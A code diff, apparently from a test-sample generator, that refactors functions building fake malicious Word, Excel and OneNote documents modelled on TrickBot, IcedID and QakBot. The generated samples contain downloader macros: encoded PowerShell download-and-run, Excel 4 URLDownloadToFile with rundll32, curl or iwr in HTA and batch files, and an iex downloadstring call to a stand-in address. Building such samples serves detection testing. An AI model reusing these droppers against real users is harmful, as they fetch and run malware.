@@ -10,7 +10,6 @@ from random import Random
 
 from support import dropper_draws as droppers
 from support.archives import disc
-
 from support.carriers.mails import replying
 from support.carriers.padded import in_zip
 from support.carriers.sample import Sample, zipped
@@ -60,7 +59,7 @@ def trickbot(draw: Random) -> Sample:
 
 def icedid(draw: Random) -> Sample:
     """A document with the address in a form, ``autoopen`` in small letters, URLDownloadToFile, rundll32."""
-    form, module, main = (name(draw) for _ in range(3))
+    form, module = name(draw), name(draw)
     code = (
         'Private Declare PtrSafe Function Fetch Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As LongPtr, ByVal b As String, '
         "ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long\n"
@@ -78,7 +77,8 @@ def mirrors(draw: Random) -> Sample:
     """Several addresses of files, tried in turn."""
     urls = "@".join(named_file(draw) for _ in range(draw.randint(3, 6)))
     path = f"$env:temp\\{letters(draw, 4, 8)}.exe"
-    text = f"foreach($u in '{urls}'.split('@')){{try{{(new-object net.webclient).downloadfile($u,\"{path}\");start-process \"{path}\";break}}catch{{}}}}"
+    fetch = f'(new-object net.webclient).downloadfile($u,"{path}")'
+    text = f"foreach($u in '{urls}'.split('@')){{try{{{fetch};start-process \"{path}\";break}}catch{{}}}}"
     code = f'Sub Document_Open()\nShell "powershell -enc {encoded(text)}", 0\nEnd Sub\n'
     return Sample("file.doc", word_document([Source("ThisDocument", code, "document")], properties=_PROPERTIES))
 
@@ -88,7 +88,12 @@ def qakbot_sheet(draw: Random) -> Sample:
     urls = [named_file(draw) for _ in range(3)]
     folder = f"C:\\{letters(draw, 5, 6).capitalize()}\\"
     loader = draw.choice(("regsvr32.exe -silent ", "rundll32.exe "))
-    return file(draw, listed(draw, urls, letters(draw, 4, 6).capitalize(), "ocx", loader=loader, folder=folder), draw.choice(("xls", "xlsb")), None)
+    return file(
+        draw,
+        listed(draw, urls, letters(draw, 4, 6).capitalize(), "ocx", loader=loader, folder=folder),
+        draw.choice(("xls", "xlsb")),
+        None,
+    )
 
 
 def numbered_sheet(draw: Random) -> Sample:
@@ -99,8 +104,9 @@ def numbered_sheet(draw: Random) -> Sample:
 
 def single_sheet(draw: Random) -> Sample:
     """One address, rundll32."""
+    path = f"C:\\ProgramData\\{letters(draw, 3, 6)}.dll"
     macro: Cells = {
-        "A1": f'=CALL("urlmon","URLDownloadToFileA","JJCCBB",0,"{named_file(draw)}","C:\\ProgramData\\{letters(draw, 3, 6)}.dll",0,0)',
+        "A1": f'=CALL("urlmon","URLDownloadToFileA","JJCCBB",0,"{named_file(draw)}","{path}",0,0)',
         "A2": f'=EXEC("rundll32.exe C:\\ProgramData\\{letters(draw, 3, 6)}.dll,DllRegisterServer")',
         "A3": "=HALT()",
     }
@@ -152,7 +158,8 @@ def icedid_notebook(draw: Random) -> Sample:
     """A notebook with an HTML application or a batch file under the button."""
     path = f"%temp%\\{letters(draw, 4, 8)}.dll"
     batch = f"@echo off\r\npowershell iwr {named_file(draw)} -outfile {path}\r\nrundll32 {path},init\r\n"
-    page = f'<script language="VBScript">CreateObject("WScript.Shell").Run "cmd /c curl {named_file(draw)} -o {path} & rundll32 {path},x",0</script>'
+    line = f"cmd /c curl {named_file(draw)} -o {path} & rundll32 {path},x"
+    page = f'<script language="VBScript">CreateObject("WScript.Shell").Run "{line}",0</script>'
     inner = ("Open.cmd", batch.encode()) if draw.random() < 0.5 else ("Open.hta", page.encode())
     return Sample("unpaid.one", one([inner, ("i.png", b"\x89PNG\r\n\x1a\n" + bytes(900))], ["Double click to view document"]))
 
@@ -180,6 +187,6 @@ def lent_builder(draw: Random) -> Sample:
     """Another's macro in a document never edited, the module's name kept: one mark is none."""
     text = encoded("iex (new-object net.webclient).downloadstring('http://192.0.2.7/a')")
     code = f'Sub AutoOpen()\nCreateObject("WScript.Shell").Run "powershell -e {text}", 0\nEnd Sub\n'
-    return Sample("x.doc", word_document([Source("ThisDocument", code, "document"), Source(letters(draw, 5, 8))], properties=properties(draw)))
-
-
+    return Sample(
+        "x.doc", word_document([Source("ThisDocument", code, "document"), Source(letters(draw, 5, 8))], properties=properties(draw))
+    )
